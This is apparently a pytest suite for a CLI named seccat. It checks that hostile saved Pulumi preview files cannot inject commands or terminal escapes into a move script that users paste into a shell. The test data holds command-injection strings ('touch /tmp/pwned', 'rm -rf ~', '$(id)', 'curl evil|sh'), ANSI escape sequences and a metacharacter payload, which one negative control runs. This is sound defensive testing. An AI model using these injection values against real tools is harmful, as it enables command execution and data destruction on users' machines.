"""A hostile `--base-preview` file (`seccat stacks --diff`): the printed script is pasted
into a shell, so nothing a saved preview holds may become a command line of its own or a
terminal escape, and every malformed document is a located usage error, never a traceback.

The reader is called in-process (no catalog is previewed); one CLI run checks the exit code
and that nothing reaches stdout."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import typer

from seccat.cli.stack_moves import read_saved_previews
from seccat.engine.recording import RecordedResource
from seccat.stacks.moves import Move, MoveError, MovePlan, plan_moves, script, with_engine_urns

ROOT = Path(__file__).resolve().parents[2]
KEY = "aws:kms/key:Key"
COMPONENT = "seccat:aws:ManagedSecret"


def _resource(stack: str, type_: str, name: str, parent: str | None = None) -> dict[str, Any]:
    return {
        "type": type_,
        "name": name,
        "urn": f"urn:pulumi:{stack}::seccat::{type_}::{name}",
        "parent": parent,
        "custom": type_ != COMPONENT,
        "catalogRef": ["secrets", "payments", "api-key"],
        "provider": {"package": "aws", "urn": None, "region": "eu-west-1"},
        "dependencies": [],
        "inputs": {"description": "k"},
        "options": {"protect": True},
    }


def _document() -> dict[str, Any]:
    return {
        "schemaVersion": 1,
        "stacks": [
            {"stack": "prod", "resources": [_resource("prod", KEY, "prod-key")]},
            {"stack": "prod.payments", "resources": [_resource("prod.payments", KEY, "k2")]},
        ],
    }


def _refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], doc: Any) -> str:
    saved = tmp_path / "saved.json"
    saved.write_text(doc if isinstance(doc, str) else json.dumps(doc))
    with pytest.raises(typer.Exit) as exc:
        read_saved_previews(saved)
    assert exc.value.exit_code == 2
    err = capsys.readouterr().err
    assert err.startswith(f"seccat: error: --base-preview {saved}: "), err
    assert err.count("\n") == 1 and "\x1b" not in err and "Traceback" not in err, err
    return err


def test_the_negative_control_reads(tmp_path: Path) -> None:
    saved = tmp_path / "saved.json"
    saved.write_text(json.dumps(_document()))
    read = read_saved_previews(saved)
    assert sorted(read) == ["prod", "prod.payments"]
    assert read["prod"][0].name == "prod-key"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "k\ntouch /tmp/pwned\n"),
        ("name", "k\x1b]0;owned\x07"),
        ("type", "aws:kms/key:Key\u202e"),
        ("urn", "urn:pulumi:prod::seccat::x::k\r"),
        ("parent", "urn:pulumi:prod::seccat::x::\x9b31m"),
    ],
)
def test_text_with_control_characters_is_refused_where_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], field: str, value: str
) -> None:
    doc = _document()
    doc["stacks"][1]["resources"][0][field] = value
    err = _refused(tmp_path, capsys, doc)
    assert f"stacks[1].resources[0].{field}: " in err and "control" in err, err


def test_catalog_paths_dependencies_and_provider_are_checked_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for where, change in (
        ("catalogRef", lambda r: r.update(catalogRef=["secrets", "x\nrm -rf ~\n"])),
        ("dependencies", lambda r: r.update(dependencies=["urn\x07"])),
        ("provider.region", lambda r: r["provider"].update(region="eu\x1b[2J")),
    ):
        doc = _document()
        change(doc["stacks"][0]["resources"][0])
        assert f"stacks[0].resources[0].{where}: " in _refused(tmp_path, capsys, doc)


@pytest.mark.parametrize(
    "stack",
    [
        "prod.payments\ntouch /tmp/pwned\n#",
        "prod.pay'ments",
        "prod.$(id)",
        "-prod",
        "prod..x",
        "prod.payments.3.4",
        "PROD",
        5,
        None,
        ["prod"],
    ],
)
def test_a_stack_that_is_not_a_seccat_stack_name_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], stack: Any
) -> None:
    doc = _document()
    doc["stacks"][1]["stack"] = stack
    err = _refused(tmp_path, capsys, doc)
    assert "stacks[1].stack: not a seccat stack name" in err, err


def test_valid_stack_names_of_every_shape_read(tmp_path: Path) -> None:
    """Negative control: platform, team, hash bucket and shard stacks."""
    doc = _document()
    for stack in ("prod", "prod.payments", "prod.payments.3", "prod.payments.eu-1"):
        doc["stacks"] = [{"stack": stack, "resources": [_resource(stack, KEY, "k")]}]
        (tmp_path / "saved.json").write_text(json.dumps(doc))
        assert list(read_saved_previews(tmp_path / "saved.json")) == [stack]


def test_a_stack_twice_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = _document()
    doc["stacks"].append(copy.deepcopy(doc["stacks"][0]))
    assert "stacks[2].stack: 'prod' is there twice" in _refused(tmp_path, capsys, doc)


def test_parents_that_form_a_cycle_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = _document()
    a = _resource("prod", COMPONENT, "a")
    b = _resource("prod", COMPONENT, "b", parent=a["urn"])
    a["parent"] = b["urn"]
    doc["stacks"][0]["resources"] += [a, b]
    assert "stacks[0].resources[1].parent: the parents form a cycle" in _refused(
        tmp_path, capsys, doc
    )
    doc = _document()
    r = doc["stacks"][0]["resources"][0]
    r["parent"] = r["urn"]
    assert "stacks[0].resources[0].parent: the parents form a cycle" in _refused(
        tmp_path, capsys, doc
    )


def test_deeply_nested_json_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    deep = '{"schemaVersion": 1, "stacks": ' + "[" * 100_000 + "]" * 100_000 + "}"
    assert "not JSON (nested too deeply)" in _refused(tmp_path, capsys, deep)


def test_a_deep_chain_of_parents_has_engine_urns_without_recursion() -> None:
    """Children listed before their parents, 5,000 deep (no real preview nests so, but the
    URN chain must not need a Python stack frame per level)."""
    resources = []
    parent = None
    for i in range(5000):
        r = RecordedResource(COMPONENT, f"n{i}", f"urn:x::n{i}", parent, {}, {}, False)
        resources.append(r)
        parent = r.urn
    engine = with_engine_urns(list(reversed(resources)), "prod")
    deepest = engine[0]
    assert deepest.name == "n4999"
    assert deepest.urn == f"urn:pulumi:prod::seccat::{'$'.join([COMPONENT] * 5000)}::n4999"


def test_script_comments_never_carry_a_line_break_or_an_escape() -> None:
    """Defence in depth behind the reader: whatever reaches a comment of the script (catalog
    paths, retained URNs) stays on its one comment line, escaped; a command argument that is
    not plain visible text is refused (quoted, it would be shell-safe, but its escapes
    would still reach the terminal)."""
    move = Move(
        source="prod.a",
        dest="prod.b",
        urns=("urn:pulumi:prod.a::seccat::t::n",),
        resources=("urn:pulumi:prod.a::seccat::t::n",),
        subjects=("secrets/x\nrm -rf ~\n", "secrets/\x1b]0;t\x07"),
    )
    plan = MovePlan(moves=[move], retained=["urn:pulumi:prod::seccat::t::gone\ncurl evil|sh"])
    lines = "\n".join(script("prod", plan)).split("\n")
    for line in lines:
        assert line.startswith(("#", "pulumi state move ", "  ")), line
        assert line.isprintable(), line
    assert any("secrets/x\\nrm -rf ~\\n" in line for line in lines)
    assert any("gone\\ncurl evil|sh" in line for line in lines)
    for hostile in (
        replace(move, source="prod.a\ntouch /tmp/pwned"),
        replace(move, urns=("urn:pulumi:prod.a::seccat::\x1b]0;t\x07::n",)),
    ):
        with pytest.raises(MoveError, match="not plain visible text"):
            list(script("prod", MovePlan(moves=[hostile])))


def test_a_real_move_from_a_saved_preview_is_unchanged(tmp_path: Path) -> None:
    """Negative control for the above: clean names print as before."""
    doc = _document()
    doc["stacks"][1]["resources"].append(_resource("prod.payments", KEY, "moving"))
    (tmp_path / "saved.json").write_text(json.dumps(doc))
    base = read_saved_previews(tmp_path / "saved.json")
    head = {
        "prod": [RecordedResource.from_json(_resource("prod", KEY, "prod-key"))],
        "prod.payments": [RecordedResource.from_json(_resource("prod.payments", KEY, "k2"))],
        "prod.data": [RecordedResource.from_json(_resource("prod.data", KEY, "moving"))],
    }
    assert list(script("prod", plan_moves(base, head)))[3:] == [
        "pulumi stack init prod.data",
        "# prod.payments -> prod.data: 1 resources (1 protected) of secrets/payments",
        "pulumi state move --source prod.payments --dest prod.data --yes \\\n"
        "  urn:pulumi:prod.payments::seccat::aws:kms/key:Key::moving",
    ]


def test_the_cli_refuses_a_hostile_preview_with_nothing_on_stdout(tmp_path: Path) -> None:
    doc = _document()
    doc["stacks"][1]["stack"] = "prod.payments\ntouch /tmp/pwned\n#"
    saved = tmp_path / "saved.json"
    saved.write_text(json.dumps(doc))
    done = subprocess.run(
        [sys.executable, "-m", "seccat.cli", "stacks", "--diff", "--base-preview", str(saved)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, "NO_COLOR": "1"},
        timeout=300,
    )
    assert (done.returncode, done.stdout) == (2, ""), done.stderr
    assert done.stderr == (
        f"seccat: error: --base-preview {saved}: stacks[1].stack: not a seccat stack name: "
        "'prod.payments\\ntouch /tmp/pwned\\n#'\n"
    )


def test_the_file_name_in_a_comment_stays_on_its_line(tmp_path: Path) -> None:
    """`# prod: not in FILE` quotes the file name: a line break in it must not end the
    comment (file names may hold one)."""
    doc = {"schemaVersion": 1, "stack": "qa", "resources": [_resource("qa", KEY, "k")]}
    saved = tmp_path / "x\ntouch pwned\n.json"
    saved.write_text(json.dumps(doc))
    done = subprocess.run(
        [sys.executable, "-m", "seccat.cli", "stacks", "--diff", "--base-preview", str(saved)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, "NO_COLOR": "1"},
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    shown = str(saved).replace("\n", "\\n")
    assert done.stdout.splitlines() == [
        f"# {env}: not in {shown}, nothing to compare" for env in ("dev", "staging", "prod")
    ]


def test_shell_metacharacters_in_a_saved_parent_type_stay_one_quoted_argument(
    tmp_path: Path,
) -> None:
    """Printable but hostile: a parent's type from the saved file becomes part of a moved
    resource's URN. Pasted into a shell, the command must still be exactly its arguments."""
    import shlex

    hostile = "x'; touch pwned; echo '$(touch pwned)`touch pwned` \"q\" -rf"
    doc = _document()
    parent = _resource("prod.payments", hostile, "p")
    parent["custom"] = False
    child = _resource("prod.payments", KEY, "moving", parent=parent["urn"])
    doc["stacks"][1]["resources"] += [parent, child]
    (tmp_path / "saved.json").write_text(json.dumps(doc))
    base = read_saved_previews(tmp_path / "saved.json")
    head = {
        "prod": [RecordedResource.from_json(_resource("prod", KEY, "prod-key"))],
        "prod.payments": [RecordedResource.from_json(_resource("prod.payments", KEY, "k2"))],
        "prod.data": [RecordedResource.from_json(_resource("prod.data", KEY, "moving"))],
    }
    (command,) = [line for line in script("prod", plan_moves(base, head)) if "state move" in line]
    argv = shlex.split(command.replace(" \\\n", " "))
    assert argv == [
        "pulumi", "state", "move", "--source", "prod.payments", "--dest", "prod.data", "--yes",
        f"urn:pulumi:prod.payments::seccat::{hostile}${KEY}::moving",
    ]  # fmt: skip
    # the oracle is a real shell: printf in place of pulumi prints the arguments it got
    shell = subprocess.run(
        ["sh", "-c", "printf '%s\\n' " + command.removeprefix("pulumi ")],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=True,
    )
    assert shell.stdout.splitlines() == argv[1:]
    assert not (tmp_path / "pwned").exists()
    # negative control: the same text unquoted does run the command it hides
    subprocess.run(["sh", "-c", f"echo {hostile}"], cwd=tmp_path, capture_output=True)
    assert (tmp_path / "pwned").exists()
